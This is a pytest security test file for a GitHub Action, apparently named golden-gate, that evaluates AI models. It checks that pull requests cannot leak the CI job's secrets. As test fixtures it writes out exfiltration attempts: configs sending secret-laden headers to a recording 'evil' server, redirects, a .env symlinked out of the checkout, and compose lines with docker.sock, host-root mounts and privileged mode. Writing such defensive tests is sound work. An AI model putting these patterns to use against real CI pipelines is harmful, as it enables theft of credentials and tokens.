"""No secret of the job reaches anything a pull request controls (issue 42, docs/security.md).

Every case runs the entrypoint as the runner runs it (tests/action_world.py) with the job's
secrets in its environment, and a recording server (tests/fakes/recording_server.py) standing
where an attacker would: every request's line, headers and body are searched for every secret.
Compose runs through a stand-in `docker` on PATH that interpolates the compose file as compose
does (its environment and the project's .env) and records each environment it was given.
"""

from __future__ import annotations

import json
import os
import stat
import sys
import textwrap
from pathlib import Path

import pytest

from tests.action_world import WRITE_TOKEN, World
from tests.fakes.judge_server import JudgeServer
from tests.fakes.recording_server import Recorder

SECRETS = {
    "OPENAI_API_KEY": "sk-judge-secret-openai-0001",
    "ANTHROPIC_API_KEY": "sk-ant-judge-secret-0002",
    "GOOGLE_API_KEY": "AIza-judge-secret-google-0003",
    "ACTIONS_RUNTIME_TOKEN": "runtime-secret-token-0004",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "oidc-secret-token-0005",
    "DEPLOY_PASSWORD": "deploy-secret-password-0006",
}
ALL_SECRETS = [*SECRETS.values(), WRITE_TOKEN]
EVENTS = [("pull_request", False), ("pull_request_target", False), ("pull_request", True)]
EVENT_IDS = ["pull_request", "pull_request_target", "fork"]


def pr_run(world: World, event: str, fork: bool, *, extra_env=None, **inputs: str):
    pull = world.pull(["src/app.py"], fork=fork)
    return world.run(
        event,
        world.event("pull_request.opened", pull, fork=fork),
        extra_env={**SECRETS, **(extra_env or {})},
        **inputs,
    )


def said(done) -> str:
    return done.stdout + done.stderr


@pytest.fixture
def evil():
    with Recorder() as server:
        yield server


# -- the pull request's own golden-gate.toml ----------------------------------------------------


@pytest.mark.parametrize(("event", "fork"), EVENTS, ids=EVENT_IDS)
def test_a_pull_requests_own_config_cannot_send_the_jobs_secrets_to_its_server(
    world, evil, event, fork
):
    # The attack of issue 42: the pull request points the assistant at its own server and
    # names the job's secrets as header values.
    world.configure(
        {
            "assistant": {
                "url": evil.url,
                "path": "/ask",
                "headers": {
                    "X-A": "$OPENAI_API_KEY",
                    "X-B": "$INPUT_GITHUB-TOKEN",
                    "X-C": "$ACTIONS_RUNTIME_TOKEN",
                },
            }
        },
        base=False,
    )
    done = pr_run(world, event, fork)
    assert done.returncode == 2, said(done)
    assert "a pull request cannot send an environment variable of the job to an assistant" in said(
        done
    )
    assert evil.leaked(ALL_SECRETS) == []
    assert evil.arrived == []


@pytest.mark.parametrize("variable", ["DEPLOY_PASSWORD", "HOME", "GITHUB_REPOSITORY"])
def test_any_variable_not_only_a_secret_named_one_is_refused_from_the_pull_request(
    world, evil, variable
):
    world.configure({"assistant": {"url": evil.url, "headers": {"X": f"${variable}"}}}, base=False)
    done = pr_run(world, "pull_request", False)
    assert done.returncode == 2, said(done)
    assert f"X = ${variable}" in said(done)
    assert evil.arrived == []


@pytest.mark.parametrize(("event", "fork"), EVENTS, ids=EVENT_IDS)
def test_a_header_the_base_grants_goes_to_the_base_assistant_and_nowhere_else(
    world, evil, event, fork
):
    with Recorder(answer="Port 8000.") as good:
        grant = {"url": good.url, "path": "/ask", "headers": {"Authorization": "$DEPLOY_PASSWORD"}}
        world.configure({"assistant": grant})  # the base branch's rules, and the checkout's
        done = pr_run(world, event, fork)
        assert done.returncode in (0, 1), said(done)
        # The grant works: the base's assistant gets the base's header.
        assert good.arrived
        assert all(
            dict((k.lower(), v) for k, v in a.headers)["authorization"]
            == SECRETS["DEPLOY_PASSWORD"]
            for a in good.arrived
            if a.method == "POST"
        )
        assert good.leaked([s for s in ALL_SECRETS if s != SECRETS["DEPLOY_PASSWORD"]]) == []
    # The pull request moves the assistant to its own server: the granted header stays home.
    world.configure({"assistant": {**grant, "url": evil.url}}, base=False)
    done = pr_run(world, event, fork)
    assert done.returncode == 2, said(done)
    assert "moves the assistant to " + evil.url in said(done)
    assert evil.arrived == []


def test_literal_headers_of_the_pull_request_are_its_own_to_send(world, evil):
    world.configure(
        {"assistant": {"url": evil.url, "path": "/ask", "headers": {"X-Trace": "pr-7"}}}
    )
    done = pr_run(world, "pull_request", False)
    assert done.returncode in (0, 1), said(done)
    assert any(("X-Trace", "pr-7") in a.headers for a in evil.arrived)
    assert evil.leaked(ALL_SECRETS) == []


@pytest.mark.parametrize("base_file", [True, False], ids=["base-rules", "no-base-file"])
def test_a_pull_request_cannot_point_the_judge_and_its_key_at_its_server(
    world, evil, candidate, base_file
):
    with JudgeServer() as judge:
        if base_file:
            world.configure_options(
                judge_model="openai:gpt-4.1-mini", judge_base_url=judge.base_url
            )
        else:  # the base's workflow sets the rules; its judge is the default endpoint
            world.without_config(floor="0.5")
        # The pull request's own golden-gate.toml names its server as the judge's endpoint.
        world.configure(
            {"judge": {"model": "openai:gpt-4.1-mini", "base-url": evil.url + "/v1"}},
            base=False,
        )
        done = pr_run(world, "pull_request", False, assistant_url=candidate)
    assert evil.leaked(ALL_SECRETS) == []
    assert evil.arrived == []
    # A rule, with or without a file at the base: the pull request's endpoint is proposed, not
    # used; the base's is (without a file, the default), and the run is judged there.
    assert done.returncode in (0, 1), said(done)


# -- redirects ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("model", "key"),
    [
        ("openai:gpt-4.1-mini", "OPENAI_API_KEY"),
        ("anthropic:claude-3-5-haiku-latest", "ANTHROPIC_API_KEY"),
        ("google_genai:gemini-2.0-flash", "GOOGLE_API_KEY"),
    ],
)
def test_a_judge_that_redirects_is_not_followed_with_its_key(world, evil, candidate, model, key):
    with Recorder(redirect_to=evil.url) as judge:
        done = world.run(
            "workflow_dispatch",
            world.event("workflow_dispatch"),
            extra_env=SECRETS,
            judge_model=model,
            judge_base_url=judge.url,
            judge_retries="0",
            assistant_url=candidate,
        )
        assert judge.arrived  # the judge was asked, with its key, ...
    assert evil.arrived == []  # ... and the redirect's target got nothing
    # The judge preflight meets it first: a setting to fix, before any item is judged.
    assert done.returncode == 2, said(done)
    assert "a redirect, not followed" in said(done) and "no item was judged" in said(done)
    report = world.workspace / done.outputs["report-path"]
    assert report.is_file()


def test_an_assistant_that_redirects_is_not_followed_with_its_headers(world, evil):
    with Recorder(redirect_to=evil.url) as assistant:
        done = world.run(
            "workflow_dispatch",
            world.event("workflow_dispatch"),
            extra_env=SECRETS,
            assistant_url=assistant.url,
            assistant_headers="Authorization: $DEPLOY_PASSWORD",
            judge_model="keypoints",
        )
        assert assistant.arrived
    assert evil.arrived == []
    assert done.returncode == 3, said(done)


# -- docker compose -----------------------------------------------------------------------------

FAKE_DOCKER = r'''#!{python}
"""docker, as far as golden-gate's compose lifecycle uses it: `compose config` interpolates
${{VAR}} from its environment and the project's .env (links followed, as compose does) and
reads env_file; every call's argv and environment are logged; `up` logs the model it got."""
import json, os, re, sys
from pathlib import Path
import yaml

HERE = Path(__file__).resolve().parent
args = sys.argv[1:]
with open(HERE / "calls.jsonl", "a") as log:
    log.write(json.dumps({{"argv": args, "env": dict(os.environ)}}) + "\n")
if args[:1] != ["compose"]:
    sys.exit(1)
file = Path(args[args.index("-f") + 1])
if "config" in args:
    values = dict(os.environ)
    dotenv = file.parent / ".env"
    if dotenv.exists():
        for line in dotenv.read_text().splitlines():
            if "=" in line:
                k, v = line.split("=", 1)
                values.setdefault(k.strip(), v.strip())
    text = re.sub(r"\$\{{([A-Za-z_][A-Za-z0-9_]*)\}}", lambda m: values.get(m.group(1), ""),
                  file.read_text())
    model = yaml.safe_load(text)
    for service in model.get("services", {{}}).values():
        env = service.setdefault("environment", {{}})
        if isinstance(env, list):  # `- NAME` takes compose's own variable, `- NAME=value` a value
            env = service["environment"] = dict(
                e.split("=", 1) if "=" in e else (e, values.get(e)) for e in env
            )
        build = service.get("build")
        if isinstance(build, dict) and isinstance(build.get("args"), list):
            build["args"] = {{a: values.get(a) for a in build["args"]}}
        for env_file in service.pop("env_file", []) or []:
            for line in Path(file.parent, env_file).read_text().splitlines():
                if "=" in line:
                    k, v = line.split("=", 1)
                    env[k] = v
        volumes = []
        for volume in service.get("volumes", []):
            source, target = volume.split(":")[:2]
            if source.startswith("."):
                source = str((file.parent / source).resolve())
            volumes.append({{"type": "bind", "source": source, "target": target}})
        service["volumes"] = volumes
        service["ports"] = [{{"target": int(p)}} for p in service.get("ports", [])]
    print(json.dumps(model))
elif "up" in args:
    with open(HERE / "up.json", "a") as log:
        log.write(file.read_text() + "\n")
elif "port" in args:
    print((HERE / "service").read_text())
'''


class FakeDocker:
    def __init__(self, directory: Path, service_url: str) -> None:
        directory.mkdir()
        self.directory = directory
        script = directory / "docker"
        script.write_text(FAKE_DOCKER.format(python=sys.executable))
        script.chmod(script.stat().st_mode | stat.S_IXUSR)
        (directory / "service").write_text(service_url.removeprefix("http://"))

    @property
    def path(self) -> str:
        return f"{self.directory}{os.pathsep}{os.environ['PATH']}"

    def calls(self) -> list[dict]:
        log = self.directory / "calls.jsonl"
        return [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []

    def started(self) -> str:
        up = self.directory / "up.json"
        return up.read_text() if up.exists() else ""

    def leaked(self, secrets) -> list[str]:
        seen = "\n".join(json.dumps(c["env"]) for c in self.calls()) + self.started()
        return [s for s in secrets if s in seen]


COMPOSE = """
services:
  assistant:
    image: assistant
    ports: ["8000"]
    environment:
      JUDGE: "${OPENAI_API_KEY}"
      RUNTIME: "${ACTIONS_RUNTIME_TOKEN}"
      OIDC: "${ACTIONS_ID_TOKEN_REQUEST_TOKEN}"
      DEPLOY: "${DEPLOY_PASSWORD}"
      DATABASE: "${DATABASE_URL}"
      MODEL_KEY: "${ASSISTANT_MODEL_KEY}"
  worker:
    build:
      context: .
      args: [OPENAI_API_KEY, DEPLOY_PASSWORD]
    environment: [ACTIONS_RUNTIME_TOKEN, ACTIONS_ID_TOKEN_REQUEST_TOKEN, DATABASE_URL]
  sidecar:  # the last service: what a test appends lands here
    image: assistant
"""


def compose_pr(world: World, tmp_path: Path, compose: str, event="pull_request", fork=False, **kw):
    (world.workspace / "compose.yml").write_text(textwrap.dedent(compose))
    with Recorder(answer="Port 8000.") as service:
        docker = FakeDocker(tmp_path / "bin", service.url)
        done = pr_run(
            world,
            event,
            fork,
            extra_env={
                "PATH": docker.path,
                "DATABASE_URL": "postgres://app:db-password-0007@db/app",
                "ASSISTANT_MODEL_KEY": "sk-assistant-own-key-0008",
            },
            compose_file="compose.yml",
            assistant_path="/ask",
            **kw,
        )
    return done, docker, service


@pytest.mark.parametrize(("event", "fork"), EVENTS, ids=EVENT_IDS)
def test_docker_compose_and_the_services_it_starts_get_no_secret(world, tmp_path, event, fork):
    done, docker, service = compose_pr(world, tmp_path, COMPOSE, event, fork)
    assert done.returncode in (0, 1), said(done)
    assert docker.started()  # it ran, with the variables blank
    secrets = [*ALL_SECRETS, "db-password-0007", "sk-assistant-own-key-0008"]
    assert docker.leaked(secrets) == []
    assert service.leaked(secrets) == []
    for call in docker.calls():  # only the allow-list: where Docker is, the locale, CI facts
        assert not {"DATABASE_URL", "ASSISTANT_MODEL_KEY", "INPUT_GITHUB-TOKEN"} & set(call["env"])


def test_compose_env_at_the_base_passes_what_it_names_and_nothing_more(world, tmp_path):
    world.configure({"compose": {"env": ["ASSISTANT_MODEL_KEY"]}})
    done, docker, _ = compose_pr(world, tmp_path, COMPOSE)
    assert done.returncode in (0, 1), said(done)
    assert "sk-assistant-own-key-0008" in docker.started()
    assert docker.leaked(ALL_SECRETS) == []


@pytest.mark.parametrize(("event", "fork"), EVENTS, ids=EVENT_IDS)
def test_an_input_can_drop_compose_env_names_never_add_one(world, tmp_path, event, fork):
    world.configure({"compose": {"env": ["ASSISTANT_MODEL_KEY"]}})
    done, docker, _ = compose_pr(
        world, tmp_path, COMPOSE, event, fork, compose_env="ASSISTANT_MODEL_KEY,OPENAI_API_KEY"
    )
    assert done.returncode == 2, said(done)
    assert "input 'compose-env'" in said(done) and "would loosen a rule" in said(done)
    assert not docker.started()
    assert docker.leaked(ALL_SECRETS) == []


def test_the_pull_request_cannot_grant_itself_compose_env(world, tmp_path):
    # Its own golden-gate.toml names the judge key: a rule, read at the base, so not used.
    world.configure({"compose": {"env": ["OPENAI_API_KEY"]}}, base=False)
    done, docker, _ = compose_pr(world, tmp_path, COMPOSE)
    assert docker.leaked(ALL_SECRETS) == []
    assert done.returncode in (0, 1), said(done)


def test_a_dotenv_linked_out_of_the_checkout_is_refused(world, tmp_path):
    # As a link to /proc/1/environ or the runner's home would: a file of the job's secrets.
    outside = tmp_path / "job.env"
    outside.write_text("".join(f"{k}={v}\n" for k, v in SECRETS.items()))
    (world.workspace / ".env").symlink_to(outside)
    compose = COMPOSE.replace("${DATABASE_URL}", "${OPENAI_API_KEY}")
    done, docker, service = compose_pr(world, tmp_path, compose)
    assert done.returncode == 2, said(done)
    assert "holds the value of a secret of the job" in said(done) or ".env links" in said(done)
    assert not docker.started()
    assert service.leaked(ALL_SECRETS) == []


def test_an_env_file_outside_the_checkout_is_refused(world, tmp_path):
    outside = tmp_path / "job.env"
    outside.write_text("".join(f"{k}={v}\n" for k, v in SECRETS.items()))
    compose = COMPOSE + f"    env_file: [{outside}]\n"
    done, docker, _ = compose_pr(world, tmp_path, compose)
    assert done.returncode == 2, said(done)
    assert not docker.started()


@pytest.mark.parametrize(
    "line",
    [
        "    privileged: true",
        "    pid: host",
        "    network_mode: host",
        "    cap_add: [SYS_PTRACE]",
        "    volumes: [/var/run/docker.sock:/var/run/docker.sock]",
        "    volumes: [/:/host]",
    ],
)
def test_services_that_could_read_the_runners_secrets_are_refused(world, tmp_path, line):
    done, docker, _ = compose_pr(world, tmp_path, COMPOSE + line + "\n")
    assert done.returncode == 2, said(done)
    assert "may not reach the host" in said(done)
    assert not docker.started()


def test_on_workflow_dispatch_the_branch_own_compose_file_is_trusted_but_still_scrubbed(
    world, tmp_path
):
    (world.workspace / "compose.yml").write_text(COMPOSE + "    privileged: true\n")
    with Recorder(answer="Port 8000.") as service:
        docker = FakeDocker(tmp_path / "bin", service.url)
        done = world.run(
            "workflow_dispatch",
            world.event("workflow_dispatch"),
            extra_env={**SECRETS, "PATH": docker.path},
            compose_file="compose.yml",
            assistant_path="/ask",
        )
    assert done.returncode in (0, 1), said(done)
    assert "privileged" in docker.started()  # the branch's own file: not a pull request's
    assert docker.leaked(ALL_SECRETS) == []


def test_the_local_command_gives_compose_no_secret(tmp_path):
    import subprocess

    work = tmp_path / "work"
    work.mkdir()
    (work / "golden.jsonl").write_text(
        json.dumps({"id": "q", "question": "Port?", "reference_key_points": ["8000"]}) + "\n"
    )
    (work / "compose.yml").write_text(textwrap.dedent(COMPOSE))
    with Recorder(answer="Port 8000.") as service:
        docker = FakeDocker(tmp_path / "bin", service.url)
        done = subprocess.run(
            [sys.executable, "-m", "golden_gate", "eval",
             "--golden", "golden.jsonl",
             "--compose-file", "compose.yml",
             "--assistant-path", "/ask",
             "--judge-model", "keypoints"],
            cwd=work,
            env={**os.environ, **SECRETS, "PATH": docker.path},
            capture_output=True,
            text=True,
            timeout=120,
        )  # fmt: skip
    assert docker.started(), done.stdout + done.stderr
    assert docker.leaked(list(SECRETS.values())) == []
    assert service.leaked(list(SECRETS.values())) == []


def command(work: Path, *args: str, env: dict[str, str]):
    import subprocess

    return subprocess.run(
        [sys.executable, "-m", "golden_gate", "eval", "--golden", "golden.jsonl",
         "--judge-model", "keypoints", *args],
        cwd=work, env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip


@pytest.mark.parametrize("event", ["pull_request", "pull_request_target"])
def test_the_command_in_a_pull_requests_workflow_sends_no_secret_its_config_names(
    tmp_path, evil, event
):
    # `golden-gate eval` as a step of a pull request's workflow: the working tree's
    # golden-gate.toml is the pull request's, the flags are the workflow's.
    work = tmp_path / "work"
    work.mkdir()
    (work / "golden.jsonl").write_text(
        json.dumps({"id": "q", "question": "Port?", "reference_key_points": ["8000"]}) + "\n"
    )
    (work / "golden-gate.toml").write_text(
        f'[assistant]\nurl = "{evil.url}"\npath = "/ask"\n'
        'headers = { X-A = "$OPENAI_API_KEY", X-C = "$ACTIONS_RUNTIME_TOKEN" }\n'
    )
    workflow = {**os.environ, **SECRETS, "GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": event}
    done = command(work, env=workflow)
    assert done.returncode == 2, said(done)
    assert "pass --assistant-headers in the workflow's command instead" in said(done)
    assert evil.arrived == []
    # The same header as the workflow's flag is the workflow's to send; on a laptop (or on
    # push) the config file is the user's own.
    flagged = command(
        work, "--assistant-url", evil.url, "--assistant-headers", "X-A: $OPENAI_API_KEY",
        env=workflow,
    )  # fmt: skip
    assert evil.leaked([SECRETS["ACTIONS_RUNTIME_TOKEN"]]) == []
    assert flagged.returncode in (0, 1), said(flagged)
    laptop = {k: v for k, v in workflow.items() if not k.startswith("GITHUB_")}
    assert command(work, env=laptop).returncode in (0, 1)
    assert evil.leaked([SECRETS["OPENAI_API_KEY"]]) == [SECRETS["OPENAI_API_KEY"]]
    assert evil.leaked([SECRETS["ACTIONS_RUNTIME_TOKEN"]]) == [SECRETS["ACTIONS_RUNTIME_TOKEN"]]
